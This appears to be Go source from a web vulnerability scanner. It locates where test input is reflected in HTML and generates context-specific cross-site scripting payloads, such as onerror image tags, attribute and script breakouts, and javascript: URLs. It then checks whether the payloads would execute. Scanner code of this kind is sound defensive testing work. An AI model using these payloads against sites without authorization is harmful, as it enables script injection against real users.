package dast

import (
	"bytes"
	"strings"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// Reflection contexts of a marker in an HTML document.
const (
	ctxText      = "text"      // between tags
	ctxRawText   = "rawtext"   // inside textarea, title, style, …
	ctxAttr      = "attribute" // inside an attribute value
	ctxURLAttr   = "urlattr"   // at the start of href/src/action
	ctxScript    = "script"    // inside a <script> block
	ctxComment   = "comment"   // inside an HTML comment
	ctxEventAttr = "event"     // inside an on* attribute: already code
)

// reflectionContexts lists the contexts in which marker appears in body.
func reflectionContexts(body []byte, marker string) map[string]string {
	out := map[string]string{}
	z := html.NewTokenizer(bytes.NewReader(body))
	var raw atom.Atom
	for {
		tt := z.Next()
		switch tt {
		case html.ErrorToken:
			return out
		case html.TextToken:
			t := string(z.Text())
			if !strings.Contains(t, marker) {
				continue
			}
			switch raw {
			case atom.Script:
				out[ctxScript] = "script"
			case 0:
				out[ctxText] = ""
			default:
				out[ctxRawText] = raw.String()
			}
		case html.CommentToken:
			if strings.Contains(string(z.Text()), marker) {
				out[ctxComment] = ""
			}
		case html.StartTagToken, html.SelfClosingTagToken:
			rawTag := string(z.Raw())
			tok := z.Token()
			for _, a := range tok.Attr {
				if !strings.Contains(a.Val, marker) {
					continue
				}
				switch {
				case strings.HasPrefix(a.Key, "on"):
					out[ctxEventAttr] = a.Key
				case (a.Key == "href" || a.Key == "src" || a.Key == "action" || a.Key == "formaction") && strings.HasPrefix(a.Val, marker):
					out[ctxURLAttr] = a.Key
				}
				out[ctxAttr] = quoteOf(rawTag, a.Key)
			}
			if tt == html.StartTagToken {
				switch tok.DataAtom {
				case atom.Script, atom.Style, atom.Textarea, atom.Title, atom.Xmp, atom.Noscript, atom.Iframe, atom.Noembed, atom.Noframes, atom.Plaintext:
					raw = tok.DataAtom
				}
			}
		case html.EndTagToken:
			raw = 0
		}
	}
}

// quoteOf returns the quote character around attribute key in a raw tag,
// or "" for an unquoted value.
func quoteOf(rawTag, key string) string {
	low := strings.ToLower(rawTag)
	i := strings.Index(low, key)
	for i >= 0 {
		rest := strings.TrimLeft(low[i+len(key):], " \t\n")
		if strings.HasPrefix(rest, "=") {
			rest = strings.TrimLeft(rest[1:], " \t\n")
			if strings.HasPrefix(rest, `"`) {
				return `"`
			}
			if strings.HasPrefix(rest, `'`) {
				return `'`
			}
			return ""
		}
		j := strings.Index(low[i+1:], key)
		if j < 0 {
			break
		}
		i += 1 + j
	}
	return `"`
}

// xssPayloads returns payloads for the contexts found. Each payload runs
// mark() (a function call) when rendered, so executable() can find it.
func xssPayloads(contexts map[string]string, mark string) []string {
	call := mark + "()"
	img := "<img src=x onerror=" + call + ">"
	var out []string
	if _, ok := contexts[ctxText]; ok {
		out = append(out, img)
	}
	if tag, ok := contexts[ctxRawText]; ok {
		out = append(out, "</"+tag+">"+img)
	}
	if _, ok := contexts[ctxComment]; ok {
		out = append(out, "-->"+img)
	}
	if q, ok := contexts[ctxAttr]; ok {
		if q == "" {
			out = append(out, "x onmouseover="+call+" ")
		} else {
			out = append(out, q+">"+img, q+" autofocus onfocus="+q+call+q+" x="+q)
		}
	}
	if _, ok := contexts[ctxURLAttr]; ok {
		out = append(out, "javascript:"+call)
	}
	if _, ok := contexts[ctxEventAttr]; ok {
		out = append(out, "';"+call+";//", `";`+call+";//")
	}
	if _, ok := contexts[ctxScript]; ok {
		out = append(out, "</script>"+img, "';"+call+";//", `";`+call+";//", ";"+call+";//")
	}
	return dedupeStrings(out)
}

func dedupeStrings(in []string) []string {
	seen := map[string]bool{}
	out := in[:0]
	for _, s := range in {
		if !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	return out
}

// executable reports whether mark() appears in body where a browser would
// run it: an event handler attribute, a javascript: URL, or code (not a
// string or comment) inside a script block.
func executable(body []byte, mark string) bool {
	call := mark + "()"
	z := html.NewTokenizer(bytes.NewReader(body))
	inScript := false
	for {
		tt := z.Next()
		switch tt {
		case html.ErrorToken:
			return false
		case html.TextToken:
			if inScript && jsCodeContains(string(z.Text()), call) {
				return true
			}
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			for _, a := range tok.Attr {
				if !strings.Contains(a.Val, call) {
					continue
				}
				if strings.HasPrefix(a.Key, "on") && jsCodeContains(a.Val, call) {
					return true
				}
				if (a.Key == "href" || a.Key == "src" || a.Key == "action" || a.Key == "formaction") &&
					strings.HasPrefix(strings.ToLower(strings.TrimSpace(a.Val)), "javascript:") && jsCodeContains(strings.TrimSpace(a.Val)[len("javascript:"):], call) {
					return true
				}
			}
			if tt == html.StartTagToken && tok.DataAtom == atom.Script {
				inScript = true
			}
		case html.EndTagToken:
			inScript = false
		}
	}
}

// jsCodeContains reports whether needle occurs in js outside string
// literals and comments.
func jsCodeContains(js, needle string) bool {
	const (
		code = iota
		single
		double
		template
		line
		block
	)
	state := code
	for i := 0; i < len(js); i++ {
		c := js[i]
		switch state {
		case code:
			if strings.HasPrefix(js[i:], needle) {
				// The call must start a token, not end an identifier.
				if i == 0 || !isIdent(js[i-1]) {
					return true
				}
			}
			switch {
			case c == '\'':
				state = single
			case c == '"':
				state = double
			case c == '`':
				state = template
			case c == '/' && i+1 < len(js) && js[i+1] == '/':
				state = line
				i++
			case c == '/' && i+1 < len(js) && js[i+1] == '*':
				state = block
				i++
			}
		case single, double, template:
			q := map[int]byte{single: '\'', double: '"', template: '`'}[state]
			if c == '\\' {
				i++
			} else if c == q {
				state = code
			} else if c == '\n' && state != template {
				state = code
			}
		case line:
			if c == '\n' {
				state = code
			}
		case block:
			if c == '*' && i+1 < len(js) && js[i+1] == '/' {
				state = code
				i++
			}
		}
	}
	return false
}

func isIdent(c byte) bool {
	return c == '_' || c == '$' || c == '.' || (c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')
}
